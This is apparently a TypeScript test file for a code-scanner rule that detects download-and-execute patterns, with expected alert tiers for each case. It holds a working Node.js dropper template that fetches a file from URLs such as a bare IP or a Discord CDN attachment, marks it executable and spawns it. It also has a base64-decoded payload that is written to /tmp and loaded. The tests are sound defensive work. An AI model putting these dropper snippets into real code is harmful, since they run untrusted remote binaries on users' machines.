import { testFileRule } from '../../test/rule-cases.ts';
import { downloadExecute } from './download-execute.ts';

const dropper = (
  url: string,
) => `const https = require('https'), http = require('http'), fs = require('fs'), cp = require('child_process');
  http.get('${url}', (r) => { r.pipe(fs.createWriteStream('/tmp/x')); r.on('end', () => { fs.chmodSync('/tmp/x', 0o755); cp.spawn('/tmp/x'); }); });`;
testFileRule(downloadExecute, [
  { name: 'from an address without a name', text: dropper('http://45.9.148.35/x'), tier: 'review' },
  {
    name: 'from a messenger',
    text: dropper('https://cdn.discordapp.com/attachments/1/2/x.exe'),
    tier: 'review',
  },
  {
    name: 'an installer from its own host',
    text: dropper('https://releases.vendor.example/tool'),
    tier: 'review',
  },
  { name: 'from this machine', text: dropper('http://127.0.0.1/x'), tier: 'review' },
  {
    name: 'a file that is written, and another program',
    text: `fetch('https://a.example').then((r) => r.text()).then((t) => require('fs').writeFileSync('cache.json', t)); require('child_process').spawn('git', ['status'])`,
    tier: 'note',
  },
  {
    name: 'a decoded file that is loaded',
    text: `require('fs').writeFileSync('/tmp/a.js', Buffer.from(x, 'base64')); require('/tmp/a.js')`,
    tier: 'review',
  },
  {
    name: 'a download alone',
    text: `require('https').get('https://a.example', (r) => r.pipe(require('fs').createWriteStream('x')))`,
    tier: null,
  },
  { name: 'a program alone', text: `require('child_process').spawn('git', ['status'])`, tier: null },
]);
